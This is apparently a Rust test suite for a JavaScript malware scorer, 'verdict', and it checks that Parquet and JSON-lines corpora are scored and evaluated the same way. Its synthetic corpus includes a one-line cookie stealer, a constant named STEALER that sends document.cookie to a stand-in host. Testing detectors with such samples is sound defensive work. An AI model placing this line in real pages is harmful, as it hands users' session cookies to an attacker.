//! `verdict score` and `verdict eval` on tables in Parquet.

#![allow(clippy::unwrap_used, reason = "what is not as expected fails the test")]

use std::fs::File;
use std::process::Stdio;
use std::sync::Arc;

use crate::binary::{Folder, PLAIN, command, run, run_on};
use parquet::data_type::{ByteArray, ByteArrayType, Int64Type};
use parquet::file::properties::WriterProperties;
use parquet::file::reader::{FileReader, SerializedFileReader};
use parquet::file::writer::SerializedFileWriter;
use parquet::record::Field;
use parquet::record::reader::RowIter;
use parquet::schema::parser::parse_message_type;
use serde_json::{Value, json};

const STEALER: &str = "new Image().src = 'https://c.example/?' + document.cookie;";
const LABELS: [&str; 2] = ["benign", "malware"];

fn text(n: i64) -> String {
    if n % 2 == 0 { format!("{PLAIN}f({n});") } else { format!("{STEALER} // {n}") }
}

/// Scripts of which every other is malicious; the text of the last is missing.
fn corpus(rows: i64) -> Vec<u8> {
    let schema =
        "message m { REQUIRED INT64 id; OPTIONAL BINARY text (STRING); REQUIRED BINARY label (STRING); }";
    let schema = Arc::new(parse_message_type(schema).unwrap());
    let properties = Arc::new(WriterProperties::builder().build());
    let mut writer = SerializedFileWriter::new(Vec::new(), schema, properties).unwrap();
    let mut group = writer.next_row_group().unwrap();
    let ids: Vec<i64> = (0..rows).collect();
    let mut column = group.next_column().unwrap().unwrap();
    column.typed::<Int64Type>().write_batch(&ids, None, None).unwrap();
    column.close().unwrap();
    let texts: Vec<ByteArray> = ids[1..].iter().map(|n| text(n - 1).as_str().into()).collect();
    let levels: Vec<i16> = ids.iter().map(|n| (n + 1 < rows).into()).collect();
    let mut column = group.next_column().unwrap().unwrap();
    column.typed::<ByteArrayType>().write_batch(&texts, Some(&levels), None).unwrap();
    column.close().unwrap();
    let labels: Vec<ByteArray> = ids.iter().map(|n| LABELS[(n % 2) as usize].into()).collect();
    let mut column = group.next_column().unwrap().unwrap();
    column.typed::<ByteArrayType>().write_batch(&labels, None, None).unwrap();
    column.close().unwrap();
    group.close().unwrap();
    writer.into_inner().unwrap()
}

/// The same as JSON lines.
fn lines(rows: i64) -> Vec<u8> {
    let line = |n: i64| {
        let text = (n + 1 < rows).then(|| text(n));
        format!("{}\n", json!({"id": n, "text": text, "label": LABELS[(n % 2) as usize]}))
    };
    (0..rows).map(line).collect::<String>().into_bytes()
}

/// The rows of a table as JSON objects, without cells that are missing.
fn table(path: &str) -> Vec<Value> {
    let reader = SerializedFileReader::new(File::open(path).unwrap()).unwrap();
    let rows = RowIter::from_file_into(Box::new(reader) as Box<dyn FileReader>);
    let cell = |field: &Field| match field {
        Field::Null => Value::Null,
        Field::Double(value) => json!(value),
        Field::Bool(value) => json!(value),
        Field::Byte(value) => json!(value),
        Field::Long(value) => json!(value),
        Field::Str(value) => json!(value),
        other => panic!("{other:?}"),
    };
    rows.map(|row| {
        let row = row.unwrap();
        let cells = row.get_column_iter().map(|(name, field)| (name.clone(), cell(field)));
        Value::Object(cells.filter(|(_, value)| !value.is_null()).collect())
    })
    .collect()
}

fn write(arguments: &[&str], stdin: Option<&str>, to: &str) -> Option<i32> {
    let mut command = command(arguments);
    command.stdin(stdin.map_or_else(Stdio::null, |path| File::open(path).unwrap().into()));
    command.stdout(File::create(to).unwrap()).status().unwrap().code()
}

#[test]
fn a_table_is_scored_as_lines_are() {
    let folder = Folder::new(&[("corpus.parquet", &corpus(1_000)), ("corpus.jsonl", &lines(1_000))]);
    let want = run_on(&["score"], &lines(1_000));
    assert_eq!(want.status, Some(3));
    let rows = want.lines();
    assert_eq!(rows.iter().filter(|row| row["malicious"] == true).count(), 499);
    let last = rows.last().unwrap();
    assert_eq!(last["line"], 1_000);

    // From a file, and through a pipe.
    let path = folder.at("corpus.parquet");
    for got in [run(&["score", &path]), run_on(&["score"], &corpus(1_000))] {
        let (own, mut lines) = (got.lines(), rows.clone());
        assert_eq!(got.status, Some(3));
        assert_eq!(own.len(), 1_000);
        assert!(own[999]["error"].as_str().unwrap().contains("expected a string"));
        lines[999] = own[999].clone();
        assert_eq!(own, lines);
    }

    // Into a table, from both forms: ids keep their type where the input has one.
    let out = folder.at("scores.parquet");
    for (input, is_number) in [("corpus.parquet", true), ("corpus.jsonl", false)] {
        let status = write(&["score", "--format", "parquet"], Some(&folder.at(input)), &out);
        assert_eq!(status, Some(3));
        let got = table(&out);
        assert_eq!(got.len(), 1_000);
        for (n, (got, want)) in got.iter().zip(&rows).enumerate().take(999) {
            let mut want = want.clone();
            want["id"] = if is_number { json!(n) } else { json!(n.to_string()) };
            assert_eq!(got, &want);
        }
        assert_eq!(got[999]["line"], 1_000);
        assert_eq!(got[999]["js_integrity_score"], Value::Null);
    }
}

#[test]
fn findings_in_a_table_are_json_and_log_odds_are_numbers() {
    let folder = Folder::new(&[("corpus.parquet", &corpus(4))]);
    let out = folder.at("scores.parquet");
    let arguments = ["score", "--findings", "--raw", "--format", "parquet", &folder.at("corpus.parquet")];
    assert_eq!(write(&arguments, None, &out), Some(3));
    let want = run(&["score", "--findings", "--raw", &folder.at("corpus.parquet")]).lines();
    for (got, want) in table(&out).iter().zip(&want).take(3) {
        let findings: Value = serde_json::from_str(got["findings"].as_str().unwrap()).unwrap();
        assert_eq!(findings, want["findings"]);
        assert_eq!(got["raw"], want["raw"]);
    }
}

#[test]
fn eval_measures_a_table_as_lines() {
    let folder = Folder::new(&[("corpus.parquet", &corpus(201)), ("corpus.jsonl", &lines(201))]);
    let report = |name: &str| {
        let mut report = run(&["eval", "--format", "json", &folder.at(name)]).document();
        report["failed"] = report["failed"].as_array().unwrap().len().into();
        report
    };
    let (table, lines) = (report("corpus.parquet"), report("corpus.jsonl"));
    assert_eq!((&table["rows"], &table["failed"]), (&json!(200), &json!(1)));
    assert_eq!(table, lines);
}

#[test]
fn a_damaged_table_is_told() {
    let whole = corpus(1_000);
    let mut holed = whole.clone();
    // The header of the first page.
    holed[4..24].fill(0xff);
    let folder = Folder::new(&[("cut.parquet", &whole[..whole.len() / 2]), ("holed.parquet", &holed)]);
    let cut = run(&["score", &folder.at("cut.parquet")]);
    assert_eq!((cut.status, cut.stdout.as_str()), (Some(2), ""));
    assert!(cut.stderr.contains("cut.parquet: "), "{}", cut.stderr);
    let holed = run(&["score", &folder.at("holed.parquet")]);
    assert_eq!(holed.status, Some(3));
    assert!(
        holed.lines().last().unwrap()["error"]
            .as_str()
            .unwrap()
            .starts_with("the rest of the table cannot be read")
    );
}
